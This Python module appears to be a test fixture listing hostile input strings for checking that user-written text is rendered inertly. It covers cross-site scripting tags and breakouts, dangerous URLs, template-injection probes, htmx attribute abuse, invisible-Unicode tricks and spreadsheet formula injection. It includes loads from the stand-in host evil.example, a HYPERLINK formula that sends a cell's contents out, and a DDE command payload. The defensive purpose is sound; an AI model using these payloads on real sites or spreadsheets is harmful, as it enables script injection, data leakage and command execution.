"""Sentences that try to be more than words, by what they try. Wherever people can write, they must stay what was typed.

Whatever would become an element, or an attribute of one, is called `planted`; whatever would run calls `alert`; what
would load asks `evil.example`. Written for this project in the classes of OWASP's cheat sheets: cross-site scripting,
template injection, CSV injection.
"""

from collections.abc import Mapping

_INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2800\u3164"
_TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "planted")

HOSTILE: Mapping[str, tuple[str, ...]] = {
    "tags": (
        "<script planted>alert(1)</script>",
        "<img planted src=x onerror=alert(1)>",
        "<svg planted onload=alert(1)>",
        "<svg><script planted href=data:,alert(1) /></svg>",
        "<svg><animate planted onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext planted></mtext><a xlink:href=javascript:alert(1)>x</a></math>",
        "<iframe planted srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object planted data=//evil.example/x></object><embed planted src=//evil.example/y>",
        "<link planted rel=stylesheet href=//evil.example/x.css><style planted>@import '//evil.example/y.css'</style>",
        "<meta planted http-equiv=refresh content='0;url=//evil.example/'><base planted href=//evil.example/>",
        "<form planted action=//evil.example/><button planted formaction=//evil.example/>x</button></form>",
        "<ScRiPt planted>alert(1)</sCrIpT >",
        "<<b planted>x",
        "<planted-element planted>",
    ),
    "ways out": (
        "</script><script planted>alert(1)</script>",
        "</title><img planted src=x onerror=alert(1)>",
        "</textarea><svg planted onload=alert(1)>",
        "</option></select><img planted src=//evil.example/z>",
        "--><img planted src=x onerror=alert(1)><!--",
        "]]><img planted src=x onerror=alert(1)><![CDATA[",
        "</bdi></p></main></body><b planted>",
        '"><img planted src=x onerror=alert(1)>',
        "'><img planted src=x onerror=alert(1)>",
        "&lt;img planted src=x onerror=alert(1)&gt; &#60;b planted&#62; &amp;lt;b&amp;gt;",
        "%3Cimg%20planted%20src=x%20onerror=alert(1)%3E \\u003cb planted\\u003e \\x3cb planted\\x3e",
        "+ADw-b planted+AD4-",
    ),
    "attributes": (
        '" planted onmouseover="alert(1)',
        "' planted onfocus='alert(1)' autofocus tabindex='0",
        '" planted autofocus onfocus=alert(1) x="',
        "` planted onclick=`alert(1)`",
        'x" planted style="position:fixed;inset:0;background:url(//evil.example/s)',
        "x planted onpointerenter=alert(1)",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVa\u200bScRiPt:alert(1)//",
        "data:text/html,<script planted>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/%2e%2e/",
        "http://evil.example/?q=<b planted>",
        "/review/logout?next=//evil.example",
    ),
    "templates": (
        "{{7*7}}",
        "{{ ''.__class__.__mro__ }}",
        "{% for x in range(9) %}planted{% endfor %}",
        "{#planted#} ${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) [[${7*7}]]",
        "{0.__class__} {d.__init__.__globals__} %(name)s %s%n",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    "htmx": (
        "<div planted hx-get=/review/logout hx-trigger=load>x</div>",
        '<a planted hx-post="//evil.example/" hx-trigger="load delay:1ms">x</a>',
        '<div planted hx-on:load="alert(1)" hx-on::after-init="alert(1)">x</div>',
        '<div planted hx-vals="js:{x: alert(1)}" hx-get="/" hx-trigger="revealed">x</div>',
        '<partial planted hx-target="#main">x</partial><template planted hx type=partial>x</template>',
        '" planted hx-swap-oob="true" hx-get="/" hx-trigger="load',
    ),
    "what cannot be seen": (
        "safe \u202egnp.detnalp\u202c \u2066planted\u2069 \u200frtl\u200e \u061cend",
        f"in{_INVISIBLE}visible{_TAGS}",
        "z\u0351\u0325\u0347a\u0336\u0327l\u034f\u0301go\u20dd \ufe0f",
        "\u2028line\u2029paragraph",
        "<\u200bimg planted src=x onerror=alert(1)>",
        "\uff1cscript planted\uff1ealert(1)\uff1c/script\uff1e",
    ),
    "formulas": (
        "=1+1",
        "=HYPERLINK(\"//evil.example/?\"&A1,\"x\")",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1 \uff0d1 \uff20A1",
        ";=1+1,\"=1+1\"",
    ),
}  # fmt: skip
